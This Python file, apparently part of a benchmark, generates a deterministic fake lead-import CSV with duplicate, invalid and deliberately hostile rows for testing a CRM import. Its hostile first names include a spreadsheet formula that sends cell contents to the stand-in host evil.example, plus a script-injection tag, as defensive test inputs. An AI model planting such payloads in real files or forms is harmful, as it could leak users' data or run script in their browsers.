"""The file the lead-import scenario uploads: a CSV as a CRM export or a purchased list looks.

Headers as other CRMs name them (the import guesses the mapping), about 5% rows repeating existing
leads' email addresses (some in another case), 1% repeating an earlier line of the file, 1% hostile
text (formulas, markup, a leading tab, non-Latin names, names too long for the field), and 0.5% rows
with a bad email or employee count. Deterministic: the same size gives the same file.
"""

from __future__ import annotations

import csv
import io
import random
from collections.abc import Sequence

from bench.seed_leads import (
    BRANDS,
    BUSINESSES,
    COUNTRIES,
    ENDINGS,
    FIRST_NAMES,
    INDUSTRIES,
    LEGAL_FORMS,
    SYLLABLES,
    TAGS,
    TITLES,
)

HEADERS = [
    "First Name",
    "Last Name",
    "Email Address",
    "Phone",
    "Company Name",
    "Job Title",
    "Industry",
    "Country",
    "No. of Employees",
    "Lead Source",
    "UTM Campaign",
    "Tags",
]
SOURCES = ["Web", "Trade Show", "Partner Referral", "Purchased List", "Cold Call", "Webinar"]
HOSTILE_FIRST_NAMES = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
    "<script>alert(1)</script>",
    "\tTabbed",
    "+SUM(A1:A9)",
    "Дмитрий",
    "مريم",
    "Zoë",
    "X" * 140,  # longer than the 100 characters a first name holds: the row is reported
]
DUPLICATE_EVERY = 20  # 5% of the rows repeat an existing lead
REPEAT_EVERY = 100  # 1% repeat an earlier line of the file
HOSTILE_EVERY = 101
INVALID_EVERY = 199


def build_csv(rows: int, existing_emails: Sequence[str]) -> bytes:
    """`rows` data rows; every DUPLICATE_EVERY-th uses one of `existing_emails` in turn."""
    draw = random.Random(rows)
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer)
    writer.writerow(HEADERS)
    emails: list[str] = []
    for line in range(1, rows + 1):
        first = draw.choice(FIRST_NAMES)
        last = (
            draw.choice(SYLLABLES) + draw.choice(("", draw.choice(SYLLABLES).lower())) + draw.choice(ENDINGS)
        )
        if draw.random() < 0.4:
            company = f"{draw.choice(BRANDS)} {draw.choice(BUSINESSES)}"
        else:
            small = draw.choice(SYLLABLES) + draw.choice(ENDINGS)
            company = f"{small} {draw.choice(BUSINESSES)} {draw.choice(LEGAL_FORMS)}"
        email = f"{first.lower()}.{last.lower()}.import{line}@{company.split()[0].lower()}.example"
        if line % DUPLICATE_EVERY == 0 and existing_emails:
            existing = existing_emails[(line // DUPLICATE_EVERY) % len(existing_emails)]
            email = existing.upper() if line % 3 == 0 else existing
        elif line % REPEAT_EVERY == 1 and emails:
            email = emails[draw.randrange(len(emails))]
        employees = str(draw.choice((draw.randint(1, 50), draw.randint(51, 1000), draw.randint(1001, 50000))))
        if line % HOSTILE_EVERY == 0:
            first = HOSTILE_FIRST_NAMES[(line // HOSTILE_EVERY) % len(HOSTILE_FIRST_NAMES)]
        if line % INVALID_EVERY == 0:
            if line % 2:
                email = "not-an-email"
            else:
                employees = "many"
        emails.append(email)
        writer.writerow(
            [
                first,
                last,
                email,
                f"+1 555 9{line % 1_000_000:06d}" if draw.random() < 0.7 else "",
                company,
                draw.choice(TITLES),
                draw.choice(INDUSTRIES),
                COUNTRIES[int(len(COUNTRIES) * draw.random() ** 2)],
                f"{int(employees):,}" if employees.isdigit() and draw.random() < 0.2 else employees,
                draw.choice(SOURCES),
                draw.choice(("", "", "spring-launch-2025", "webinar-q3")),
                ", ".join(draw.sample(TAGS, draw.choice((0, 0, 0, 1, 2)))),
            ]
        )
    return buffer.getvalue().encode()
